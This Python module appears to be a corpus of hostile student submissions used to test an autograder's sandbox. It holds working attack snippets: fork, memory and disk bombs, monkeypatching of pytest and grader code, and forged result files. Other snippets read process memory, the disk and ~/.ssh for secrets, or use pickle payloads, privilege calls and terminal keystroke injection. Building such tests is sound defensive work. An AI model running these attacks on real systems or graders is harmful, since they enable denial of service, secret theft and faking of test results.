"""The corpus: what hostile submissions try, each on top of an answer whose true worth is known.

An attack is a small program put before or behind a base answer to exercise 3.1:

- ``stub``: nothing is written, so nothing is deserved;
- ``wrong``: a softmax too many, which deserves some points;
- ``slow``: right but a hundred times too slow, which deserves all but the throughput's.

It has held when no check earns more than the base alone does. Whatever an attack finds out it shouts in the message of an
exception, because that is what a student gets to read; secrets look like ``CANARY-<where>-<16 hex digits>``.
"""

from dataclasses import dataclass
from typing import Literal

Base = Literal["stub", "wrong", "slow"]


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: in words.
        goal: what it is after: stop, change, learn, measure, host, notebook.
        code: the program.
        base: the answer it is put to.
        where: ``behind`` the answer, ``before`` it, ``in a call`` (a constructor that does it), or ``instead``.
        claims: whether it may earn the checks of structure, which ask what an answer says of itself.
    """

    name: str
    goal: str
    code: str
    base: Base = "stub"
    where: Literal["behind", "before", "in a call", "instead"] = "behind"
    claims: bool = False

    @property
    def student(self) -> str:
        """A folder's name."""
        return "".join(letter if letter.isalnum() else "_" for letter in f"{self.goal}_{self.name}").lower()

    def source(self, bases: dict[str, str]) -> str:
        """The whole submission."""
        answer = bases[self.base]
        if self.where == "instead":
            return self.code
        if self.where == "before":
            return f"{self.code}\n{answer}"
        if self.where == "in a call":
            body = "\n".join(f"    {line}" for line in self.code.strip().splitlines())
            return f"{answer}\n\ndef _attack(self, *args, **kwargs):\n{body}\n\nBasicMLP.__init__ = _attack\n"
        return f"{answer}\n{self.code}"


SEARCH = r"""
import gc, os, re, socket, sys
PATTERN = re.compile(b"CANA" + b"RY-[a-z]+-[0-9a-f]{16}|(?:42){9}")
found = set()
def look(data):
    found.update(PATTERN.findall(data))
def shout():
    raise ValueError(f"found {sorted(found)} in {places}")
places = 0
def read(path):
    global places
    try:
        with open(path, "rb") as file:
            look(file.read(2**22))
        places += 1
    except (OSError, ValueError):
        pass
"""

MEMORY = r"""
def memory(pid):
    global places
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, rights, _, device, *_ = line.split()
                start, end = (int(part, 16) for part in span.split("-"))
                if rights.startswith("rw") and end - start < 2**28:
                    try:
                        mem.seek(start)
                        look(mem.read(end - start))
                        places += 1
                    except (OSError, ValueError, OverflowError):
                        continue
    except OSError:
        pass
"""

FORGE = '''
import grader.wire, sys
def forge(reply):
    """Put another function in the place of the one that writes answers."""
    true_encode = grader.wire.encode
    def encode(content):
        return true_encode(content) if "usable" in content else reply(true_encode, content)
    serving = sys._getframe()
    while serving.f_code.co_name != "serve":
        serving = serving.f_back
    inner = serving.f_locals["reply"]
    inner.__closure__[[*inner.__code__.co_freevars].index("encode")].cell_contents = encode
'''


STOP = [
    Attack("os._exit at import", "stop", "import os; os._exit(0)", where="before"),
    Attack("os._exit in a call", "stop", "import os; os._exit(0)", where="in a call"),
    Attack("sys.exit at import", "stop", "import sys; sys.exit(0)"),
    Attack("sys.exit in a call", "stop", "import sys; sys.exit(0)", where="in a call"),
    Attack("pytest.exit", "stop", "import pytest; pytest.exit('bye', returncode=0)", where="in a call"),
    Attack("pytest.skip", "stop", "import pytest; pytest.skip('no need', allow_module_level=True)", where="in a call"),
    Attack("pytest.xfail", "stop", "import pytest; pytest.xfail('as expected')", where="in a call"),
    Attack("unittest.SkipTest", "stop", "import unittest; raise unittest.SkipTest('no')", where="in a call"),
    Attack("KeyboardInterrupt", "stop", "raise KeyboardInterrupt", where="in a call"),
    Attack("GeneratorExit", "stop", "raise GeneratorExit", where="in a call"),
    Attack("a BaseException of its own", "stop", "raise type('Own', (BaseException,), {})('mine')", where="in a call"),
    Attack("a crash", "stop", "import ctypes; ctypes.string_at(0)", where="in a call"),
    Attack("exec of another program", "stop", "import os; os.execv('/bin/true', ['true'])", where="in a call"),
    Attack("a results file, then exit", "stop", '''
import json, os
full = {"score": 16, "max_score": 16, "outcome": "correct", "tests": [{"score": 16, "max_score": 16}]}
for folder in (".", "/tmp", "/autograder/results", os.path.expanduser("~")):
    for name in ("results.json", "report.json", "3.1.json", "junit.xml", "scores.json"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                json.dump(full, file)
        except OSError:
            continue
print(json.dumps(full))
os._exit(0)
'''),
    Attack("afterwards: atexit, finalisers, signals, threads", "stop", '''
import atexit, os, signal, threading, time
import grader.wire
frame = grader.wire.encode({"answer": True})
def write(*_):
    for number in range(3, 64):
        try:
            os.write(number, frame)
        except OSError:
            continue
atexit.register(write)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(number, write)
class Late:
    def __del__(self):
        write()
late = Late()
def spam():
    while True:
        time.sleep(0.05)
        write()
threading.Thread(target=spam, daemon=True).start()
'''),
    Attack("an endless loop", "stop", "while True: pass", where="in a call"),
    Attack("a loop that swallows everything", "stop", '''
import signal
for number in set(range(1, 32)) - {9, 19}:
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException:
        continue
''', where="in a call"),
    Attack("a deadlock", "stop", "import threading; lock = threading.Lock(); lock.acquire(); lock.acquire()", where="in a call"),
    Attack("a fork bomb", "stop", '''
import os
while True:
    try:
        os.fork()
    except OSError:
        continue
''', where="in a call"),
    Attack("a thread bomb", "stop", '''
import threading, time
try:
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
except RuntimeError:
    time.sleep(1000)
''', where="in a call"),
    Attack("a memory bomb", "stop", "kept = []\nwhile True: kept.append(bytearray(b'x' * 2**26))", where="in a call"),
    Attack("a memory bomb in many processes", "stop", '''
import os, time
for _ in range(40):
    if not os.fork():
        kept = bytearray(b"x" * 2**28)
        time.sleep(1000)
time.sleep(1000)
''', where="in a call"),
    Attack("a full disk", "stop", '''
for folder in ("/tmp", "/dev/shm"):
    try:
        for number in range(10**6):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(2**24))
    except OSError:
        continue
raise OSError("no space")
''', where="in a call"),
    Attack("output without end", "stop", "import os\nwhile True: os.write(1, bytes(2**20)); os.write(2, bytes(2**20))", where="in a call"),
    Attack("an answer without end", "stop", '''
import os, struct
for number in range(3, 256):
    try:
        os.write(number, struct.pack(">QI", 2**27, 10))
        while True: os.write(number, b" ")
    except OSError:
        continue
''', where="in a call"),
    Attack("a huge answer", "stop", "import torch\nBasicMLP.__init__ = lambda self, *_, **__: None\nBasicMLP.forward = lambda self, x: torch.zeros(2**28)\npredict_proba = lambda model, x: 'x' * 2**27"),
    Attack("a message without end", "stop", '''
class E(Exception):
    def __str__(self):
        while True: pass
raise E
''', where="in a call"),
    Attack("a file that is no Python", "stop", "\x00\x01\xff broken(:", where="instead"),
    Attack("deep nesting", "stop", "x = " + "(" * 3000 + ")" * 3000, where="instead"),
]  # fmt: skip

CHANGE = [
    Attack("the test runner", "change", '''
import _pytest.python, _pytest.runner, pytest
_pytest.python.Function.runtest = lambda self: None
_pytest.runner.call_and_report = lambda *_, **__: None
pytest.main = lambda *_, **__: 0
'''),
    Attack("the grader's own code", "change", '''
import grader.checks, grader.grading, grader.plugin, grader.report, grader.subject
for module in (grader.checks, grader.grading, grader.plugin, grader.report, grader.subject):
    for name, item in list(vars(module).items()):
        if callable(item) and getattr(item, "__module__", "").startswith("grader"):
            try:
                setattr(module, name, lambda *_, **__: True)
            except Exception:
                continue
'''),
    Attack("comparisons of torch and numpy", "change", '''
import builtins, numpy, torch
yes = lambda *_, **__: True
torch.allclose = torch.equal = torch.testing.assert_close = numpy.testing.assert_allclose = numpy.allclose = yes
torch.isclose = torch.Tensor.isclose = lambda a, *_, **__: torch.ones_like(a, dtype=torch.bool)
builtins.all = builtins.any = builtins.isinstance = yes
''', base="wrong"),
    Attack("points and kinds", "change", '''
import grader.course, grader.report, pytest
pytest.mark.shapes = pytest.mark.gradients = lambda **_: lambda f: f
grader.course.KINDS = ()
grader.report.Check.earned = 16
''', base="wrong"),
    Attack("files that configure Python and pytest", "change", '''
import os
for folder in (".", "/tmp", "/course", os.path.dirname(os.__file__)):
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "torch.py", "json.py", "grader.pth", "fixtures.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)")
        except OSError:
            continue
    for name in ("pytest.ini", "pyproject.toml", "tox.ini"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("[pytest]\\naddopts = --collect-only\\n")
        except OSError:
            continue
'''),
    Attack("modules in the place of torch and json", "change", '''
import sys, types
for name in ("torch", "json", "numpy", "fixtures", "grader.checks", "safetensors", "cloudpickle"):
    sys.modules[name] = types.ModuleType(name)
''', base="wrong"),
    Attack("tensors that equal everything", "change", '''
import torch
class Right(torch.Tensor):
    __eq__ = __ne__ = __bool__ = __le__ = __ge__ = lambda *_: True
    __hash__ = object.__hash__
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
BasicMLP.__init__ = lambda self, *_, **__: torch.nn.Module.__init__(self)
BasicMLP.forward = lambda self, x: torch.zeros(len(x), 3).as_subclass(Right)
predict_proba = lambda model, x: torch.zeros(len(x), 3).as_subclass(Right)
'''),
    Attack("objects that equal everything", "change", '''
import torch
class Right:
    shape, dtype, ndim, requires_grad = (5, 3), torch.float32, 2, False
    __class__ = torch.Tensor
    __eq__ = __ne__ = __bool__ = __lt__ = __gt__ = lambda *_: True
    __array__ = lambda self, *_, **__: torch.zeros(5, 3).numpy()
    __reduce__ = lambda self: (eval, ("__import__('os')._exit(0)",))
    __hash__ = object.__hash__
    __getattr__ = lambda self, name: lambda *_, **__: self
BasicMLP = predict_proba = lambda *_, **__: Right()
'''),
    Attack("lazy and meta tensors", "change", '''
import torch
BasicMLP.__init__ = lambda self, *_, **__: torch.nn.Module.__init__(self)
BasicMLP.forward = lambda self, x: torch.empty(len(x), 3, device="meta", requires_grad=True)
predict_proba = lambda model, x: torch.empty(len(x), 3, device="meta")
'''),
    Attack("a pickle in the answer", "change", FORGE + '''
import pickle, struct
class Evil:
    def __reduce__(self):
        return exec, ("raise SystemExit(0)",)
body = pickle.dumps(Evil())
forge(lambda encode, content: struct.pack(">QI", 4 + len(body), len(body)) + body)
'''),
    Attack("a safetensors header that lies", "change", FORGE + '''
import struct
text = b'{"dict": [["answer", {"tensor": "0"}]]}'
body = struct.pack("<Q", 2**62) + b'{"0": {"dtype": "F32", "shape": [1], "data_offsets": [0, 2305843009213693952]}}'
forge(lambda encode, content: struct.pack(">QI", 4 + len(text) + len(body), len(text)) + text + body)
'''),
    Attack("JSON a million levels deep", "change", FORGE + '''
import struct
text = b"[" * 10**6
forge(lambda encode, content: struct.pack(">QI", 4 + len(text), len(text)) + text)
'''),
    Attack("a verdict instead of an answer", "change", FORGE + '''
forge(lambda encode, content: encode({"answer": {"score": 16, "outcome": "correct", "passed": True}}))
'''),
    Attack("nothing but claims about itself", "change", FORGE + '''
import torch
shapes = [("net.0.weight", (32, 12)), ("net.0.bias", (32,)), ("net.2.weight", (32, 32)), ("net.2.bias", (32,)), ("net.4.weight", (3, 32)), ("net.4.bias", (3,))]
claims = [
    [[name, list(shape)] for name, shape in shapes], [shape for _, shape in shapes], [list(shape) for _, shape in shapes], dict(shapes),
    {"type": "ValueError", "bases": ["ValueError", "Exception"], "message": "x: expected (batch, 12)"},
    True, 1.0, [True, False], None, torch.zeros(5, 3), {name: torch.zeros(shape) for name, shape in shapes},
]
count = 0
def claim(encode, content):
    global count
    count += 1
    return encode({"answer": claims[count % len(claims)]})
forge(claim)
''', claims=True),
]  # fmt: skip

LEARN = [
    Attack("its own memory", "learn", SEARCH + MEMORY + "memory('self'); shout()"),
    Attack("frames and the collector's objects", "learn", SEARCH + '''
frame = sys._getframe()
while frame:
    places += 1
    look(repr((frame.f_locals, frame.f_code.co_filename)).encode(errors="replace"))
    frame = frame.f_back
for item in gc.get_objects():
    places += 1
    if type(item) in (dict, list, tuple) and len(item) < 10**4:
        for part in item.values() if type(item) is dict else item:
            if type(part) in (str, bytes):
                look(part.encode(errors="replace") if type(part) is str else part)
shout()
'''),
    Attack("other processes' memory, environment, descriptors", "learn", SEARCH + MEMORY + '''
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        memory(name)
        for part in ("environ", "cmdline"):
            read(f"/proc/{name}/{part}")
        for way in ("fd", "cwd", "root/tmp"):
            try:
                for entry in os.listdir(f"/proc/{name}/{way}"):
                    look(os.fsencode(entry))
                    if way != "root/tmp":
                        read(f"/proc/{name}/{way}/{entry}")
            except OSError:
                continue
for number in range(3, 256):
    try:
        look(os.pread(number, 2**20, 0))
    except OSError:
        continue
read("/proc/self/environ")
shout()
'''),
    Attack("the disk", "learn", SEARCH + '''
skip = ("/proc", "/sys", "/usr", "/lib", "/opt")
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in skip and not name.startswith((".git", "site-packages", "python3"))]
    for name in (*files, *folders):
        look(os.fsencode(name))
    for name in files:
        path = os.path.join(folder, name)
        if os.path.isfile(path) and os.path.getsize(path) < 2**22:
            read(path)
shout()
'''),
    Attack("places it knows", "learn", SEARCH + '''
from pathlib import Path
for root in (Path("{course}"), Path("{submissions}"), Path("{home}/.ssh"), Path("{home}/.config"), Path("/autograder")):
    try:
        for path in root.rglob("*"):
            look(str(path).encode())
            if path.is_file():
                read(path)
    except OSError:
        continue
shout()
'''),
    Attack("the packages of the suites", "learn", SEARCH + '''
import importlib
for name in ("tests", "reference", "exercises", "tests.session_03_nn_module.test_ex1_basic_mlp", "conftest", "test_ex1_basic_mlp",
             "reference.session_03_nn_module.ex1_basic_mlp", "reference_ex1_basic_mlp"):
    try:
        module = importlib.import_module(name)
        places += 1
        look(repr(vars(module)).encode())
    except ImportError:
        continue
for module in list(sys.modules.values()):
    look(repr(getattr(module, "__file__", "")).encode())
shout()
'''),
    Attack("tracing the parent", "learn", SEARCH + '''
import ctypes
libc = ctypes.CDLL(None)
for pid in {os.getppid(), 1, 2} - {os.getpid(), 0}:
    if libc.ptrace(16, pid, None, None) == 0 or libc.ptrace(0x4206, pid, None, None) == 0:
        found.add(f"CANA" + f"RY-ptrace-{pid:016x}")
shout()
'''),
    Attack("the network", "learn", SEARCH + '''
for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0{socket}"), (socket.AF_UNIX, "{folder}/socket"), (socket.AF_INET, ("1.1.1.1", 53))):
    try:
        with socket.socket(family) as connection:
            connection.settimeout(0.5)
            connection.connect(address)
            look(connection.recv(100))
    except OSError:
        continue
shout()
'''),
    Attack("symbolic links out of its folder", "learn", SEARCH + '''
for number, target in enumerate(("/", "{course}", "{submissions}", "/etc", "/proc/1/root", "../../../..")):
    try:
        os.symlink(target, f"link{number}")
        for name in os.listdir(f"link{number}"):
            look(os.fsencode(name))
            read(f"link{number}/{name}")
    except OSError:
        continue
shout()
'''),
    Attack("the seed of global generators", "learn", '''
import random, torch, numpy
def predict(self, *_, **__):
    raise RuntimeError(f"found {torch.initial_seed()} {random.getrandbits(62)} {numpy.random.randint(2**31)}")
BasicMLP.__init__ = predict
'''),
]  # fmt: skip

MEASURE = [
    Attack("clocks that stand still", "measure", '''
import time, torch
for name in ("time", "perf_counter", "process_time", "thread_time", "monotonic", "perf_counter_ns", "process_time_ns", "clock_gettime"):
    setattr(time, name, lambda *_: 0)
torch.cuda.synchronize = lambda *_: None
''', base="slow"),
    Attack("work in threads", "measure", '''
import threading
slow_forward = BasicMLP.forward
def forward(self, x):
    kept = []
    worker = threading.Thread(target=lambda: kept.append(slow_forward(self, x)))
    worker.start()
    worker.join()
    return kept[0]
BasicMLP.forward = forward
''', base="slow"),
    Attack("a copy serves, the original sleeps", "measure", "import os, time\nif os.fork():\n    while True: time.sleep(10**6)\n", base="slow", where="before"),
    Attack("a worker made at import, fed through pipes", "measure", '''
import os, pickle, struct
to_read, to_write = os.pipe()
from_read, from_write = os.pipe()
def exactly(descriptor, size):
    data = b""
    while len(data) < size:
        data += os.read(descriptor, size - len(data))
    return data
def put(descriptor, item):
    data = memoryview(pickle.dumps(item))
    os.write(descriptor, struct.pack(">Q", len(data)))
    while data:
        data = data[os.write(descriptor, data):]
def get(descriptor):
    return pickle.loads(exactly(descriptor, struct.unpack(">Q", exactly(descriptor, 8))[0]))
work = _burn
if not os.fork():
    while True:
        work(get(to_read))
        put(from_write, "done")
def _burn(x):
    put(to_write, x.detach())
    get(from_read)
''', base="slow"),
    Attack("a new process per call that nobody waits for", "measure", '''
import os, signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
work = _burn
def _burn(x):
    reader, writer = os.pipe()
    if not os.fork():
        work(x)
        os.write(writer, b"x")
        os._exit(0)
    os.close(writer)
    os.read(reader, 1)
    os.close(reader)
''', base="slow"),
    Attack("answers kept for the next call", "measure", '''
kept = {}
slow_forward = BasicMLP.forward
def forward(self, x):
    if x.shape not in kept:
        kept[x.shape] = slow_forward(self, x)
    return kept[x.shape]
BasicMLP.forward = forward
''', base="slow"),
    Attack("the input, zeros, half precision", "measure", '''
true_forward = BasicMLP.forward
def forward(self, x):
    return (x[:, :3] * 0).half().float() if len(x) > 1000 else true_forward(self, x)
BasicMLP.forward = forward
''', base="slow"),
    Attack("inputs, streams, dtype and threads changed", "measure", '''
import gc, random, sys, torch
torch.set_default_dtype(torch.float64)
torch.set_num_threads(8)
torch.manual_seed(0)
random.seed(0)
gc.disable()
sys.setswitchinterval(100)
''', base="slow"),
    Attack("burning time while the reference runs", "measure", '''
import threading
def burn():
    while True:
        sum(range(10**5))
import os
for _ in range(3):
    if not os.fork():
        burn()
''', base="slow"),
]  # fmt: skip

HOST = [
    Attack("files outside of its folder", "host", '''
import os
done = []
for folder in ("{course}", "{course}/grader", "{course}/tests", "{submissions}", "{folder}", "{home}", "/", "/usr", "/etc", "/var/tmp", "/run", "/course", "/course/grader"):
    try:
        with open(os.path.join(folder, "written-by-an-attack"), "w") as file:
            done.append(file.name)
    except OSError:
        continue
raise ValueError(f"WROTE {done}")
'''),
    Attack("signals to everybody", "host", '''
import os
reached = []
for pid in [os.getppid(), *range(2, 70_000)]:
    try:
        if pid:
            os.kill(pid, 0)
            reached.append(pid)
    except OSError:
        continue
raise ValueError(f"REACHED {len(reached)}")
'''),
    Attack("rights: setuid, mount, namespaces, modules", "host", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
won = []
for name, arguments in (("setuid", (12345,)), ("mount", (b"tmpfs", b"/tmp", b"tmpfs", 0, None)), ("unshare", (0x10000000,)), ("chroot", (b"/tmp",)),
                        ("umount2", (b"/proc", 2)), ("swapoff", (b"x",)), ("sethostname", (b"owned", 5)), ("setns", (0, 0)), ("acct", (None,))):
    if getattr(libc, name)(*arguments) == 0:
        won.append(name)
raise ValueError(f"WON {won}")
'''),
    Attack("a daemon that stays", "host", '''
import os, time
if not os.fork():
    os.setsid()
    if not os.fork():
        os.execv("/bin/sleep", ["sleep", "987654"])
    os._exit(0)
time.sleep(0.3)
'''),
    Attack("traps for the next submission", "host", '''
import os, sys
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.dirname(sys.executable)):
    for name in ("sitecustomize.py", "torch.py", "trap"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit")
        except OSError:
            continue
import builtins, torch
builtins.print = torch.nn.Linear.forward = None
'''),
    Attack("descriptors that linger when the judge closes them", "host", '''
import os, signal, socket, struct
signal.signal(signal.SIGPIPE, signal.SIG_IGN)
server = socket.create_server(("127.0.0.1", 0))
full = socket.create_connection(server.getsockname())
other, _ = server.accept()
full.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 10**6))
full.setblocking(False)
try:
    while True:
        full.send(bytes(2**16))
except OSError:
    server.close()
for number in range(3, 64):
    try:
        with socket.socket(fileno=os.dup(number)) as one:
            socket.send_fds(one, [b"x"], [full.fileno(), other.fileno()])
    except OSError:
        continue
'''),
    Attack("leases on files that others open", "host", '''
import ctypes, os
libc = ctypes.CDLL(None)
won = []
for folder in ("/course/fixtures", "/course/grader", "/usr/bin"):
    for name in os.listdir(folder) if os.path.isdir(folder) else []:
        try:
            descriptor = os.open(os.path.join(folder, name), os.O_RDONLY)
        except OSError:
            continue
        if libc.fcntl(descriptor, 1024, 1) == 0:
            won.append(name)
        os.close(descriptor)
raise ValueError(f"WON {won[:9]}")
'''),
    Attack("a terminal's input", "host", '''
import fcntl, os, termios
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
    try:
        with open(name, "wb", 0) as terminal:
            for letter in b"touch written-by-an-attack\\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    except OSError:
        continue
'''),
]  # fmt: skip

ATTACKS = (*STOP, *CHANGE, *LEARN, *MEASURE, *HOST)
